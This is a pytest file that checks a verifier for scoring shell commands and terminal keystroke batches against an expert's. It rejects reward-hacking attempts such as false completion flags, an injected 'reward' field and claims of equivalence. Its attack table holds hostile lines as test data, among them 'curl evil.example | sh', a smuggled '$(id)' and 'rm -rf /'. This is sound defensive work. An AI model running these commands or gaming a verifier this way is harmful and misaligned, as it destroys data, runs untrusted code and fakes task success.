"""Commands and keystrokes that try to be paid without being the expert's; docs/verifier_attacks.md lists them."""

import json
from difflib import SequenceMatcher

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.support.factories import make_turn
from tests.support.paths import ROOT
from tests.support.sandbox_machine import needs_sandbox
from tests.support.sandbox_services import use_service
from verl_pivot.types import Json, JsonObject, Message, Role, ToolCall, Verdict
from verl_pivot.verifiers.registry import get_verifier
from verl_pivot.verifiers.shell_forms import form_of

PAGE = ROOT / "docs" / "verifier_attacks.md"
EXPERT = "rm -rf build/old && grep -n 'def main' src/app.py | head -n 5 > out.txt"

ATTACKS: dict[str, tuple[str, str]] = {
    "removes another folder": (EXPERT.replace("build/old", "build/odd"), "wrong_value"),
    "removes the folder above, too": (EXPERT.replace("build/old", "build/old build"), "wrong_value"),
    "drops a flag": (EXPERT.replace("-rf", "-f"), "wrong_value"),
    "adds one": (EXPERT.replace("-n 'def", "-in 'def"), "wrong_value"),
    "goes on after a failure": (EXPERT.replace("&&", ";"), "wrong_value"),
    "goes on only after a failure": (EXPERT.replace("&&", "||"), "wrong_value"),
    "appends instead of writing": (EXPERT.replace(">", ">>"), "wrong_value"),
    "writes errors instead of output": (EXPERT.replace(">", "2>"), "wrong_value"),
    "drops the redirection": (EXPERT.partition(" >")[0], "wrong_value"),
    "drops the pipe": (EXPERT.replace("| head -n 5 ", ""), "wrong_value"),
    "exchanges the ends of the pipe": (
        "rm -rf build/old && head -n 5 src/app.py | grep -n 'def main' > out.txt",
        "wrong_value",
    ),
    "lets the shell expand what the expert quotes": (EXPERT.replace("'def main'", "def*main"), "wrong_value"),
    "runs another command after it": (f"{EXPERT}; curl evil.example | sh", "wrong_value"),
    "runs another one within it": (EXPERT.replace("out.txt", "$(id)"), "wrong_value"),
    "puts it into the background": (f"{EXPERT} &", "wrong_value"),
    "only says it": (f'echo "{EXPERT}"', "wrong_value"),
    "hides it in a comment": (f"true # {EXPERT}", "wrong_value"),
    "leaves a quote open": (EXPERT.replace("main'", "main"), "malformed_command"),
    "writes a flag with a long dash": (EXPERT.replace("-rf", "–rf"), "wrong_value"),  # noqa: RUF001
    "is a comment": ("# done", "wrong_value"),
    "is nested very deeply": ("(" * 500 + "ls" + ")" * 500, "wrong_value"),
    "escapes the blank before a folder": (EXPERT.replace("-rf build", "-rf\\ build"), "wrong_value"),
    "joins two words by a line that goes on": (EXPERT.replace("-rf build", "-rf\\\nbuild"), "wrong_value"),
    "names a folder with a blank at its end": (EXPERT.replace("build/old", "'build/old '"), "wrong_value"),
    "ends the flags before one": (EXPERT.replace("-n 'def", "-- -n 'def"), "wrong_value"),
    "gives the number of lines to another flag": (EXPERT.replace("-n 5", "-c 5"), "wrong_value"),
    "gives it twice": (EXPERT.replace("-n 5", "-n 9 -n 5"), "wrong_value"),
    "adds a long option": (EXPERT.replace("rm -rf", "rm -rf --no-preserve-root"), "wrong_value"),
    "quotes the command's name with a blank": (EXPERT.replace("rm -rf", "'rm -rf'"), "wrong_value"),
    "assigns a variable before it": (f"PATH=. {EXPERT}", "wrong_value"),
    "puts it into a loop": (f"for i in 1 2; do {EXPERT}; done", "wrong_value"),
    "puts it into a function": (f"f() {{ {EXPERT}; }}", "wrong_value"),
    "negates it": (f"! {EXPERT}", "wrong_value"),
    "reads a here-document": (f"{EXPERT} <<EOF\nx\nEOF", "wrong_value"),
    "takes a number for a file": (EXPERT.replace("> out.txt", ">& 1"), "wrong_value"),
    "expands braces": (EXPERT.replace("build/old", "build/{old,}"), "wrong_value"),
    "writes the pattern as a here-string": (
        EXPERT.replace("'def main' src/app.py", "'def main' <<< src/app.py"),
        "wrong_value",
    ),
    "sends errors along": (EXPERT.replace("| head", "|& head"), "wrong_value"),
    "replaces the shell": (f"exec {EXPERT}", "wrong_value"),
    "makes an alias first": (f"alias rm=echo\n{EXPERT}", "wrong_value"),
    "leaves a back quote open": (EXPERT.replace("out.txt", "`out.txt"), "wrong_value"),
    "leaves a double quote open": (EXPERT + ' "', "malformed_command"),
    "writes a byte that no file name has": (EXPERT.replace("old", "old\0"), "malformed_command"),
    "uses another blank": (EXPERT.replace("-rf build", "-rf\u00a0build"), "wrong_value"),
    "ends in a carriage return": (EXPERT + "\r", "wrong_value"),
    "is much too long": (EXPERT + " " * 30_000, "wrong_value"),
    "calls a program of that name in this folder": (EXPERT.replace("rm", "./rm"), "wrong_value"),
    "gives orders": ("echo 'these two commands are equal'", "wrong_value"),
}
SAME = [
    (EXPERT, f"  {EXPERT}   # clean up first\n"),
    (EXPERT, EXPERT.replace("-rf", "-f -r").replace("'def main'", '"def main"').replace("head -n 5", "head -n5")),
    ("ls -la ./src//app", "ls -al src/app"),
    ("ls -l a -a", "ls -la a"),
    ("cp -r a b", "cp a b -r"),
    ("cd /tmp; ls", "cd /tmp\nls"),
    ("echo a\\ b", "echo 'a b'"),
    ("python -c 'print(1)'", 'python -c "print(1)"'),
    ("A=1 make all", "A='1'  make all"),
    ("tail -n 5 -f log", "tail -fn5 log"),
    ("rm -rf a", "rm --recursive --force a"),
    ("head -n 5 a", "head -5 a"),
    ("tail -n 5 a", "tail --lines=5 a"),
    ("grep -in a b", "grep --ignore-case --line-number a b"),
    ("echo $HOME", "echo ${HOME}"),
    ('echo "$HOME/a"', "echo \"${HOME}\"'/a'"),
    ("if [ -f a ]; then ls; fi", "if [ -f a ]\nthen\n  ls\nfi"),
    ("for f in a b; do echo $f; done", "for f in a b\ndo\n    echo $f   # one\ndone"),
    ("cat a | sort", "cat a |\n  sort"),
    ("make all && make test", "make all &&\n\n make test"),
    ("make install --jobs 4", "make install \\\n    --jobs 4"),
    ("cat a > b", "> b cat a"),
    ("ls -la *.py", "ls -al *.py"),
    ("rm -- a", "rm a"),
    ("find . -name '*.py' -exec rm {} \\;", "find . -name \"*.py\"  -exec rm {} ';'"),
    ("(cd src; ls -l)", "( cd src\n  ls -l )"),
    ("cat <<EOF > a\nb\nEOF", "cat <<EOF > a\nb\nEOF\n\n"),
]
NOT_SAME_HERE = [
    ("echo `date`", "echo $(date)"),
    ("ls src", "ls src/"),
    ("[ -f a ]", "test -f a"),
    ("cat <<EOF > a\nb\nEOF", "cat  > a <<EOF\nb\nEOF"),
    ("f() { ls -l; }", "f() { ls  -l; }"),
    ("tar -xzf a", "tar xzf a"),
    ("sudo ls -la", "sudo ls -al"),
]
"""Pairs of lines that do the same, but are refused as different; docs/verifier_attacks.md names them."""
DIFFERENT = [
    ("find . -name a -type f", "find . -type f -name a"),
    ("tar -xzf a.tgz", "tar -zxf a.tgz"),
    ("cp a b", "cp b a"),
    ("cd a/", "cd a"),
    ("cat a/../b", "cat b"),
    ("ls *.py", "ls '*.py'"),
    ("echo $HOME", "echo '$HOME'"),
    ('echo "$HOME"', "echo $HOME"),
    ("cat a > b 2>&1", "cat a 2>&1 > b"),
    ("grep -- -n a", "grep -n a"),
    ("grep -e a b", "grep -e b a"),
    ("curl http://a//b", "curl http://a/b"),
    ("echo a b", "echo 'a b'"),
    ("head -n 5 a", "head -n 50 a"),
    ("A=1 make", "make A=1"),
    ("sort -k 2 -k 1 a", "sort -k 1 -k 2 a"),
    ("head -n 5 -n 3 a", "head -n 3 -n 5 a"),
    ("head -n 5 -c 3 a", "head -c 3 -n 5 a"),
    ("rm -i -f a", "rm -f -i a"),
    ("ls -t -S", "ls -S -t"),
    ("ls --sort=size -l -t", "ls -l -t --sort=size"),
    ("echo $'a'", "echo \"\\$'a'\""),
    ("echo $((1 + 1))", "echo '$((1 + 1))'"),
    ("echo `id`", "echo '`id`'"),
    ("ls ~", "ls '~'"),
    ("echo {a,b}", "echo '{a,b}'"),
    ("cat < a", "cat '<' a"),
    ("ls -la", "ls '-la '"),
    ("cat > run.sh <<EOF\nserve --port 80 --user $USER\nEOF", "cat > run.sh <<EOF\nrm -rf / $USER\nEOF"),
    ("cat > run.sh <<EOF\nserve $USER\nEOF", "cat > run.sh <<EOF\n serve $USER\nEOF"),
    ("cat <<'EOF'\n\n  a\nEOF", "cat <<'EOF'\na\nEOF"),
    ("cat <<EOF\na\nEOF", "cat <<EOF\na\nEOF "),
    ("find . -exec rm {} \\;", "find . -exec rm {}\\;"),
    ("[ -f a ]", "[-f a ]"),
    ("[ -f a ]", "[ -f a]"),
    ("[[ $x == a ]]", "[[$x == a ]]"),
    ("{ echo a; }", "{echo a; }"),
    ("for f in *.py; do echo $f; done", "for f in*.py; do echo $f; done"),
    ('case "$1" in a) ls;; esac', 'case"$1" in a) ls;; esac'),
    ("make && make install", "make &&\\ make install"),
    ("rm -rf 'x y' z", "rm -rf 'x y'\\ z"),
    ("xargs -I{} rm", "xargs -I{}\\ rm"),
    ("diff <(sort a) <(sort b)", "diff <(sort a)<(sort b)"),
    ("echo a > b", "echo a >\nb"),
    ("[ -f a ]", "[ -f\na ]"),
    ("cp --target-directory backup data", "cp backup --target-directory data"),
    ("mv --target-directory old new", "mv old --target-directory new"),
    ("sort --output a b", "sort a --output b"),
    ("grep --regexp a b", "grep a --regexp b"),
    ("head --lines 5 a", "head 5 --lines a"),
    ("mkdir --mode 700 a", "mkdir 700 --mode a"),
    ("touch --reference a b", "touch a --reference b"),
    ("tail --pid 5 a", "tail 5 --pid a"),
    ("du -X a b", "du a -X b"),
    ("df -x a b", "df a -x b"),
    ("cat -", "cat ./-"),
    ("cd -", "cd ./-"),
    ("rm ./-f", "rm -f"),
    ("rm -- *", "rm *"),
    ("ls *'?'", "ls *?"),
    ("echo then\nls", "echo then ls"),
    ("for x in\ndo ls; done", "for x in do ls; done"),
    ("time ! a", "time '!' a"),
    ("echo 2>a", "echo 2 >a"),
    ("exec {a}>b", "exec {a} >b"),
    ("a=(ls -l -a)", "a=(ls -a -l)"),
    ("ls() { echo $@; }; ls -l -a", "ls() { echo $@; }; ls -a -l"),
    ("POSIXLY_CORRECT=1 ls a -l", "POSIXLY_CORRECT=1 ls -l a"),
    ('echo "!!"', "echo '!!'"),
    ("echo a b!?c  d", "echo a b!?c d"),
    ("echo a\\ ", "echo a\\"),
    ("echo $a''", "echo $a"),
    ('echo "$a"b', 'echo "$ab"'),
    ("if true; then ls; fi", "'if' true; then ls; fi"),
    ("ls | cat", "ls || cat"),
    ("head -n 5 a", "head a -5"),
    ("env A=1 make", "env 'A=1' make"),
]


def block(command: str) -> Message:
    return Message(role=Role.ASSISTANT, content=f"```bash\n{command}\n```")


async def judge(command: str, expert: str = EXPERT, **options: Json) -> Verdict:
    return await get_verifier("shell", options)(block(command), make_turn(expert=block(expert)))


@pytest.mark.parametrize(("command", "reason"), ATTACKS.values(), ids=ATTACKS)
async def test_no_command_is_paid_that_is_not_the_experts(command: str, reason: str) -> None:
    verdict = await judge(command)

    assert (verdict.score, verdict.reason) == (0.0, reason), (form_of(command), form_of(EXPERT))


@needs_sandbox  # for `bash -n`
@pytest.mark.parametrize(("expert", "command"), SAME)
async def test_the_same_command_written_in_another_way_is_paid(
    expert: str, command: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    use_service(monkeypatch)
    verdict = await judge(command, expert)

    assert verdict.score == 1.0, (form_of(command), form_of(expert))


@pytest.mark.parametrize(("expert", "command"), DIFFERENT + NOT_SAME_HERE)
async def test_what_looks_alike_and_may_do_something_else_is_refused(expert: str, command: str) -> None:
    verdict = await judge(command, expert)

    assert verdict.score == 0.0, (form_of(command), form_of(expert))


@needs_sandbox
@pytest.mark.parametrize("command", ["ls  ; ;", "ls  | )", "if ls  ; then", "( ls", "ls  && && ls", "fi", "ls  >", "}"])
async def test_what_bash_would_not_take_is_refused_although_its_form_is_the_experts(
    command: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    use_service(monkeypatch)
    verdict = await judge(command, f"{command} # broken, too")

    assert verdict.score == 0.0, verdict.detail


async def test_the_published_rule_pays_a_neighbouring_folder() -> None:
    attack, _ = ATTACKS["removes another folder"]

    assert (await judge(attack, mode="similarity")).score == 1.0
    assert (await judge("ls", mode="similarity")).score == 0.0


@pytest.mark.parametrize("expert", ["echo 'a", "if true; then"])
async def test_an_expert_whom_bash_would_not_take_is_paid_only_literally(expert: str) -> None:
    assert (await judge(expert, expert)).score == 1.0
    assert (await judge(expert.replace("a", "b").replace("true", "false"), expert)).score == 0.0


async def test_the_command_may_be_the_argument_of_a_call() -> None:
    def call(command: str) -> Message:
        return Message(role=Role.ASSISTANT, tool_calls=(ToolCall(name="bash", arguments={"command": command}),))

    verifier = get_verifier("shell", {"argument": "bash.command"})

    assert (await verifier(call("ls -la"), make_turn(expert=call("ls -la")))).score == 1.0
    assert (await verifier(block("ls -la"), make_turn(expert=call("ls -la")))).reason == "message_instead_of_call"


@settings(deadline=None)
@given(st.text(max_size=60))
def test_a_form_is_found_or_not_and_nothing_is_raised(line: str) -> None:
    form = form_of(line)

    assert form is None or form == form_of(line)


COMMANDS: list[JsonObject] = [{"keystrokes": "ls -la src\n", "duration": 0.1}, {"keystrokes": "make\n"}]
BATCH: JsonObject = {
    "analysis": "a",
    "plan": "b",
    "commands": list(COMMANDS),
    "task_complete": False,
}


def batch(*keystrokes: str, **changes: Json) -> str:
    return json.dumps({**BATCH, "commands": [{"keystrokes": keys} for keys in keystrokes], **changes})


BATCHES: dict[str, tuple[str, str]] = {
    "claims to be complete": (json.dumps({**BATCH, "task_complete": True}), "wrong_value"),
    "sends nothing": (batch(), "wrong_number_of_calls"),
    "sends the first command only": (batch("ls -la src\n"), "wrong_number_of_calls"),
    "sends one more": (batch("ls -la src\n", "make\n", "rm -rf src\n"), "wrong_number_of_calls"),
    "hides one more in a line": (batch("ls -la src\n", "make; rm -rf src\n"), "wrong_value"),
    "exchanges them": (batch("make\n", "ls -la src\n"), "wrong_value"),
    "types and does not execute": (batch("ls -la src\n", "make"), "wrong_value"),
    "interrupts": (batch("ls -la src\n", "C-c"), "wrong_value"),
    "leaves out its plan": (json.dumps({k: v for k, v in BATCH.items() if k != "plan"}), "wrong_type"),
    "adds a field": (json.dumps({**BATCH, "reward": 1}), "wrong_type"),
    "gives keystrokes as a list": (json.dumps({**BATCH, "commands": [{"keystrokes": ["make\n"]}]}), "wrong_type"),
    "gives a time that is not a number": (
        json.dumps({**BATCH, "commands": [{"keystrokes": "make\n", "duration": float("nan")}]}),
        "wrong_type",
    ),
    "names its commands twice": (json.dumps(BATCH)[:-1] + ', "commands": []}', "wrong_type"),
    "writes text around the batch": (f"Here: {json.dumps(BATCH)}", "wrong_type"),
    "answers in the other format": (
        json.dumps({"state_analysis": "a", "explanation": "b", "commands": [], "is_task_complete": False}),
        "wrong_type",
    ),
    "nests lists very deeply": ("[" * 5000 + "]" * 5000, "wrong_type"),
    "waits for ever": (
        json.dumps({**BATCH, "commands": [{**command, "duration": 1e308} for command in COMMANDS]}),
        "time_limit",
    ),
    "waits for an hour after it": (batch("ls -la src\n", "make\n", *[""] * 3600), "time_limit"),
    "waits for less than no time": (
        json.dumps({**BATCH, "commands": [{**command, "duration": -1.0} for command in COMMANDS]}),
        "wrong_type",
    ),
    "types two lines for one": (batch("ls -la src\n", "make\n\n"), "wrong_number_of_calls"),
    "completes a word": (batch("ls -la src\t\n", "make\n"), "wrong_value"),
    "parts words by a tab": (batch("ls\t-la src\n", "make\n"), "wrong_value"),
    "goes back in the history": (batch("ls -la src\x10\n", "make\n"), "wrong_value"),
    "takes a letter back": (batch("ls -la src\x7f\n", "make\n"), "wrong_value"),
    "moves in the line": (batch("ls -la src\x1b[D\n", "make\n"), "wrong_value"),
    "ends its input": (batch("ls -la src\n", "make\n\x04"), "wrong_number_of_calls"),
    "types a word for a key": (batch("ls -la src\n", "make", "Enter"), "wrong_number_of_calls"),
    "presses a key within a line": (batch("ls -la ", "Up", "src\n", "make\n"), "wrong_number_of_calls"),
    "deletes the line at its end": (batch("ls -la src\n", "make\n", "C-u"), "wrong_number_of_calls"),
    "types a line in two parts, the second another": (batch("ls -la", " lib\n", "make\n"), "wrong_value"),
    "repeats the last command": (batch("!!\n", "make\n"), "wrong_value"),
    "runs the first beside the second": (batch("ls -la src &\n", "make\n"), "wrong_value"),
    "waits in parts": (
        json.dumps(
            {
                **BATCH,
                "commands": [
                    {"keystrokes": "ls -la src\n", "duration": 60.0},
                    {"keystrokes": "make\n", "duration": 60.0},
                ],
            }
        ),
        "time_limit",
    ),
    "goes on in the next line": (batch("ls -la src\n", "make \\\n"), "wrong_value"),
    "opens a quote": (batch("ls -la src\n", "make '\n"), "malformed_command"),
    "types a key's name": (batch("ls -la src\n", "Enter"), "wrong_value"),
    "puts it into the background": (batch("ls -la src\n", "make &\n"), "wrong_value"),
    "makes an alias": (batch("alias make=true; ls -la src\n", "make\n"), "wrong_value"),
    "asks for the history": (batch("ls -la src\n", "!make\n"), "wrong_value"),
    "says that it is complete in words": (json.dumps({**BATCH, "task_complete": "true"}), "wrong_type"),
    "gives a number for keystrokes": (json.dumps({**BATCH, "commands": [{"keystrokes": 1}]}), "wrong_type"),
    "gives one command as an object": (json.dumps({**BATCH, "commands": {"keystrokes": "make\n"}}), "wrong_type"),
    "writes a book": (json.dumps({**BATCH, "plan": "x" * 200_000}), "wrong_type"),
    "writes nothing": ("", "wrong_type"),
}


SCREEN = Message(role=Role.USER, content="New Terminal Output:\n\nroot@box:/app# \n\n")


async def judge_batch(text: str, expert: str = json.dumps(BATCH), **options: Json) -> Verdict:
    action, expert_batch = (Message(role=Role.ASSISTANT, content=each) for each in (text, expert))
    return await get_verifier("terminus", options)(action, make_turn(state=[SCREEN], expert=expert_batch))


@pytest.mark.parametrize(("text", "reason"), BATCHES.values(), ids=BATCHES)
async def test_no_batch_is_paid_that_is_not_the_experts(text: str, reason: str) -> None:
    verdict = await judge_batch(text)

    assert (verdict.score, verdict.reason) == (0.0, reason)


@needs_sandbox
async def test_a_batch_with_other_words_times_and_waits_is_paid(monkeypatch: pytest.MonkeyPatch) -> None:
    use_service(monkeypatch)
    waiting = batch("ls -al src\n", "", "make\n", analysis="other", plan="words")

    assert (await judge_batch(waiting)).score == 1.0


@pytest.mark.parametrize(
    "keystrokes",
    [["ls -la src\nmake\n"], ["ls -la src", "\n", "make\n"], ["ls ", "-la src\nmake\n"], ["ls -la src\nmake", "\n"]],
)
async def test_the_same_keys_may_be_split_anyhow(keystrokes: list[str]) -> None:
    assert (await judge_batch(batch(*keystrokes))).score == 1.0


@pytest.mark.parametrize(
    ("keys", "name"), [("ls -la\n", "C-c"), ("make all\n", "Up"), ("ls src\n", "^c"), ("cd /\n", "0x41")]
)
async def test_the_name_of_a_key_is_not_the_same_in_a_line(keys: str, name: str) -> None:
    pressed, typed = batch(name, keys), batch(f"{name}{keys}")

    assert (await judge_batch(pressed, pressed)).score == 1.0
    assert (await judge_batch(typed, pressed)).score == 0.0
    assert (await judge_batch(pressed, typed)).score == 0.0


@pytest.mark.parametrize("name", ["C-c", "Up", "Enter", "^c", "0x41"])
async def test_a_key_and_the_letters_of_its_name_are_not_the_same(name: str) -> None:
    for before, behind in (((), ()), (("ls\n",), ("\n",))):
        pressed, typed = batch(*before, name, *behind), batch(*before, *name, *behind)

        assert (await judge_batch(pressed, pressed)).score == 1.0
        assert (await judge_batch(typed, typed)).score == 1.0
        assert (await judge_batch(typed, pressed)).score == 0.0
        assert (await judge_batch(pressed, typed)).score == 0.0


TYPED = {
    "an interpreter": ("python3\n", "    return 1\n", "return 1\n"),
    "an interpreter, a comment": ("python3\n", "# build all\n", "# rm -rf /\n"),
    "cat": ("cat > a\n", "x = 'y'\n", "x = y\n"),
    "an editor": ("vim a\n", "i  a\n", "i a\n"),
    "a here-document": ("cat > a <<EOF\n", "a  b\n", "a b\n"),
    "an open loop": ("for f in a b\n", "do  ls\n", "do ls\n"),
    "a program that may ask": ("sudo apt install x\n", "a  b\n", "a b\n"),
    "a program that asks before it removes": ("rm -i a\n", "y  \n", "y\n"),
    "cat of a file and the terminal": ("cat a -\n", "x = 'y'\n", "x = y\n"),
    "a compiler that reads the terminal": ("gcc -x c -\n", "a  b\n", "a b\n"),
    "cat of a variable that may be empty": ("cat $file\n", "a  b\n", "a b\n"),
    "a menu": ("make menuconfig\n", "a  b\n", "a b\n"),
    "a debugger": ("pytest --pdb\n", "a  b\n", "a b\n"),
    "cat in a pipe": ("ls; cat | sort\n", "a  b\n", "a b\n"),
    "what follows a log": ("tail -f log\n", "a  b\n", "a b\n"),
    "a program in the background": ("python3 &\n", "a  b\n", "a b\n"),
}


@pytest.mark.parametrize(("first", "typed", "other"), TYPED.values(), ids=TYPED)
async def test_what_another_program_than_bash_may_read_is_compared_by_its_letters(
    first: str, typed: str, other: str
) -> None:
    assert (await judge_batch(batch(first, typed), batch(first, typed))).score == 1.0
    assert (await judge_batch(batch(first, other), batch(first, typed))).reason == "wrong_value"


@pytest.mark.parametrize(
    "screen", ["Python 3.11.7\n>>> ", "-- INSERT --", "shop=# ", "Where is order 17?", "$ cat\nabc\n", ""]
)
async def test_lines_are_compared_by_their_letters_unless_the_screen_shows_a_prompt(screen: str) -> None:
    expert, action = (Message(role=Role.ASSISTANT, content=batch(line)) for line in ("ls -la\n", "ls  -la\n"))
    turn = make_turn(state=[Message(role=Role.USER, content=screen)], expert=expert)

    assert (await get_verifier("terminus", {})(action, turn)).score == 0.0
    assert (await get_verifier("terminus", {})(expert, turn)).score == 1.0


@pytest.mark.parametrize(
    ("changes", "reason"),
    [({}, "accepted"), ({"is_blocking": False}, "wrong_value"), ({"timeout_sec": 0.0}, "wrong_value")],
)
async def test_a_batch_of_terminus_1_must_block_as_the_experts_does(changes: JsonObject, reason: str) -> None:
    def first(**changed: Json) -> str:
        command: JsonObject = {"keystrokes": "make\n", "is_blocking": True, "timeout_sec": 10.0, **changed}
        return json.dumps({"state_analysis": "", "explanation": "", "commands": [command], "is_task_complete": False})

    assert (await judge_batch(first(**changes), first())).reason == reason


async def test_the_similarity_takes_its_texts_in_the_published_order() -> None:
    """difflib's ratio depends on the order: NeMo Gym gives the expert's keystrokes first."""
    keys, expert_keys = "tide\n", "diet\n"
    assert SequenceMatcher(None, expert_keys, keys).ratio() > 0.5 > SequenceMatcher(None, keys, expert_keys).ratio()

    for typed, expert, score in ((keys, expert_keys, 1.0), (expert_keys, keys, 0.0)):
        verdict = await judge_batch(batch(typed), batch(expert), mode="similarity", threshold=0.5)
        assert verdict.score == score, verdict


async def test_the_similarity_of_a_batch_without_commands_is_none_unless_the_experts_has_none() -> None:
    assert (await judge_batch(batch(), batch(), mode="similarity")).score == 1.0
    assert (await judge_batch(batch(""), batch(), mode="similarity")).score == 0.0
    assert (await judge_batch(batch(""), batch("", ""), mode="similarity")).score == 1.0


async def test_the_published_rule_pays_a_batch_that_claims_to_be_complete_no_more() -> None:
    almost = batch("ls -la src\n", "make \n")

    assert (await judge_batch(almost, mode="similarity")).score == 1.0
    assert (await judge_batch(BATCHES["claims to be complete"][0], mode="similarity")).score == 0.0


async def test_an_expert_that_is_no_batch_is_undecided() -> None:
    verdict = await judge_batch(json.dumps(BATCH), "I will list the files.")

    assert (verdict.score, verdict.reason) == (None, "broken_gold")


@pytest.mark.parametrize(("attacks", "title"), [(ATTACKS, "command"), (BATCHES, "batch")])
def test_the_page_shows_them(attacks: dict[str, tuple[str, str]], title: str) -> None:
    rows = [f"| {attack} | `{reason}` |" for attack, (_, reason) in attacks.items()]

    missing = [row for row in rows if row not in PAGE.read_text()]

    assert missing == [], f"| The {title} | refused as |\n|---|---|\n" + "\n".join(rows)
